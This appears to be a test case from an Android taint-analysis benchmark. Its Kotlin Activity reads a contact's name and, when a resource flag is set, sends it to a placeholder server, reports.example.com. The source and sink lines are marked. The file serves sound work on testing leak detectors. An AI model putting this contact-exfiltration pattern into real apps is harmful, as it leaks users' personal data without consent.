package bench.flow.switched_by_resource

import android.Manifest
import android.app.Activity
import android.content.pm.PackageManager
import android.os.Bundle
import android.provider.ContactsContract.Contacts
import java.io.IOException
import java.net.HttpURLConnection
import java.net.URL
import kotlin.concurrent.thread

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        if (checkSelfPermission(Manifest.permission.READ_CONTACTS)
                != PackageManager.PERMISSION_GRANTED) {
            requestPermissions(arrayOf(Manifest.permission.READ_CONTACTS), 1)
            return
        }
        title = "朋友 " + friend()
        if (resources.getBoolean(R.bool.report_friends)) {
            thread { report(friend()) }
        }
    }

    private fun friend(): String {
        val columns = arrayOf(Contacts.DISPLAY_NAME)
        val rows = contentResolver.query(Contacts.CONTENT_URI, columns, null, null, null) //: #source
        return rows.use { if (it != null && it.moveToFirst()) it.getString(0) else "-" }
    }

    private fun report(text: String) {
        try {
            val connection = URL("https://reports.example.com/f").openConnection() as HttpURLConnection
            connection.doOutput = true
            connection.outputStream.use { it.write(text.toByteArray()) } //: #sink
            connection.responseCode
        } catch (problem: IOException) {
            finish()
        }
    }
}
